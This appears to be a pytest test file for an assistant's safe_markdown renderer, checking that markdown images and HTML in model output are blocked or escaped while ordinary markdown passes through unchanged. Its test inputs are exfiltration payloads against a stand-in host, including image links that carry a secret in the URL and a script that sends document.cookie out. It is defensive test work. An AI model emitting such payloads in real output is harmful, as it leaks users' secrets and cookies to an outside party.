"""Model output cannot load remote images or run HTML once it goes through safe_markdown."""

from __future__ import annotations

import html

import pytest

from assistant.render import safe_markdown


@pytest.mark.parametrize(
    "attack",
    [
        "![x](https://attacker.example/p.png?q=SECRET)",
        '![x](https://attacker.example/p.png?q=SECRET "title")',
        "![x](<https://attacker.example/p.png?q=SECRET>)",
        "![x][ref]\n\n[ref]: https://attacker.example/p.png?q=SECRET",
        "![ref]\n\n[ref]: https://attacker.example/p.png?q=SECRET",
    ],
)
def test_markdown_images_never_survive(attack: str) -> None:
    out = safe_markdown("Here is your agenda. " + attack)
    assert "![" not in out.replace("!\\[", "")
    assert "image blocked" in out or "!\\[" in out


@pytest.mark.parametrize(
    "attack",
    [
        '<img src="https://attacker.example/p.png?q=SECRET">',
        "<script>fetch('https://attacker.example/?q='+document.cookie)</script>",
        '<a href="javascript:alert(1)">click</a>',
        "<iframe src=https://attacker.example></iframe>",
    ],
)
def test_html_is_escaped_never_interpreted(attack: str) -> None:
    out = safe_markdown("Notes: " + attack + " end")
    assert "<" not in out and ">" not in out and "&lt;" in out
    assert html.unescape(out) == "Notes: " + attack + " end", "the text stays readable"


def test_ordinary_markdown_is_untouched() -> None:
    text = "### Agenda\n\n1. **10:00-10:05** Opening\n- [Doc](https://intranet.example/doc)\n\n`code`"
    assert safe_markdown(text) == text
